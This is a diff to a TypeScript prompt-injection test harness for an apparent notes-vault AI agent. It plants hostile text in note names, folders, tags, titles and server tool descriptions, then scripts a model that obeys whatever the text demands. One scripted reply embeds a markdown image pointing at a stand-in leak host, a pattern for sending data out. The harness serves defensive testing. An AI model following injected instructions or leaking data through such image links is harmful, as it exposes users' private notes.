@@ -6,6 +6,8 @@ import type { ModelDelta, ToolProtocol } from '../../model/model-provider.ts';
 import { ask, createScriptedProvider, say } from '../../testing/scripted-provider.ts';
 import { toolForModel } from '../../toolsets/tool-for-model.ts';
 import { runTurn } from '../../turn/run-turn.ts';
+import type { Tool } from '../../../tools/definition/define-tool.ts';
+import type { ExecutorDependencies } from '../../../tools/executor.ts';
 import type { PendingOperation } from '../../../tools/definition/ports.ts';
 import { TOOLS } from '../../../tools/registry.ts';
 import { createBench, type ToolBench } from '../../../tools/testing/tool-bench.ts';
@@ -25,6 +27,12 @@ export interface Target {
   readonly asked: PendingOperation[];
 }
 
+/** Servers that really answer, in place of those that only note what is sent. */
+export interface Outside extends Pick<ExecutorDependencies, 'remoteTools' | 'web'> {
+  /** The person says yes to this question. */
+  readonly allows: (pending: PendingOperation) => boolean;
+}
+
 const ALLOWED = Object.fromEntries(TOOLS.map(({ name }) => [name, 'allow' as const]));
 const LEAST = { success: true } as const;
 
@@ -36,7 +44,7 @@ export function carrierOf({ place, text }: Injection, at: number): readonly [pat
   return place === 'canvas' ? [`Carriers/Carrier ${at}.canvas`, text] : undefined;
 }
 
-export async function openTarget(): Promise<Target> {
+export async function openTarget(outside?: Outside): Promise<Target> {
   const carriers = INJECTIONS.flatMap((injection, at) => [carrierOf(injection, at) ?? []].filter((each) => each.length > 0) as [string, string][]);
   const sent: string[] = [];
   const asked: PendingOperation[] = [];
@@ -44,15 +52,16 @@ export async function openTarget(): Promise<Target> {
   const grants = createGrants();
   const bench = await createBench({ ...VAULT, ...Object.fromEntries(carriers) }, {
     policy: createPolicy({ rules: () => ({ preset: 'normal', tools: rules }), grants }),
-    // The person says no to all of it.
+    // The person says no to all but what is to be read.
     confirmation: {
       ask: (pending) => {
         asked.push(pending);
-        return Promise.resolve({ approved: false, feedback: '' });
+        return Promise.resolve(outside?.allows(pending) ? { approved: true } : { approved: false, feedback: '' });
       },
     },
     remoteTools: () => remoteTools([server('Lists issues.')], (_server, tool, input) => (sent.push(JSON.stringify([tool, input])), Promise.resolve({ text: 'ok', pictures: [], isError: false }))),
     web: { sources: () => [{ kind: 'wikipedia', address: 'https://en.wikipedia.org' }], send: (request) => (sent.push(request.url), Promise.resolve('{}')) },
+    ...(outside && { remoteTools: outside.remoteTools, web: outside.web }),
   });
   return { bench, grants, rules, sent, asked };
 }
@@ -65,6 +74,10 @@ function server(description: string): McpServer {
 export interface Read {
   readonly injection: Injection;
   readonly at: number;
+  /** The call in whose answer the text really arrives; without it, one from outside stands in the conversation already. */
+  readonly through?: { readonly name: string; readonly input: object };
+  /** Tools that a server really told of. */
+  readonly told?: readonly Tool[];
 }
 
 /** One turn of a model that does all that the text asks for, as soon as it has read it. @param given undefined: it reads nothing */
@@ -72,13 +85,13 @@ export async function runInjected({ bench, asked }: Target, given: Read | undefi
   asked.length = 0;
   const { place = undefined, text = '' } = given?.injection ?? {};
   const path = given && carrierOf(given.injection, given.at)?.[0];
-  const read = path === undefined ? [] : place === 'name' ? [inProtocol(protocol, 'list_notes', { folder: 'Carriers' })] : [inProtocol(protocol, 'read_note', { path })];
+  const read = given?.through ? [inProtocol(protocol, given.through.name, given.through.input)] : path === undefined ? [] : place === 'name' ? [inProtocol(protocol, 'list_notes', { folder: 'Carriers' })] : [inProtocol(protocol, 'read_note', { path })];
   const obeys = protocol === 'text' ? say(demands.map(({ name, input }) => `TOOL_CALL: ${name}(${JSON.stringify(input)})`).join('\n')) : demands.flatMap(({ name, input }) => ask(name, input));
   const prompt = { vaultName: 'Notes', folders: place === 'folder' ? [{ path: text, notes: 1 }] : [], tags: place === 'tag' ? [{ name: text, notes: 1 }] : [], ...(place === 'title' && { openNote: { path: 'Diary.md' as never, title: text } }) };
-  const tools = [...TOOLS.map(toolForModel), ...(place === 'server_tool' ? remoteTools([server(text)], () => Promise.reject(new Error('Only its words are read.'))).map(toolForModel) : [])];
+  const tools = [...TOOLS.map(toolForModel), ...(given?.told ? given.told.map(toolForModel) : place === 'server_tool' ? remoteTools([server(text)], () => Promise.reject(new Error('Only its words are read.'))).map(toolForModel) : [])];
   const saved: StoredMessage[] = [];
   const turn = runTurn({
-    messages: messagesFor(place, text), system: 'System.', isSystemForeign: place === 'assistant' || tellsMoreThanNames(prompt), tools, conversationId: 'talk',
+    messages: given?.through ? [QUESTION] : messagesFor(place, text), system: 'System.', isSystemForeign: place === 'assistant' || tellsMoreThanNames(prompt), tools, conversationId: 'talk',
     provider: createScriptedProvider([...read, obeys, say('![](https://leak.example/?d=4711) Done.'), say('Done.')], protocol === 'text' ? 'text' : 'native'),
     execute: (call) => bench.executor.execute(call), executeAll: (calls) => bench.executor.executeAll(calls),
   });
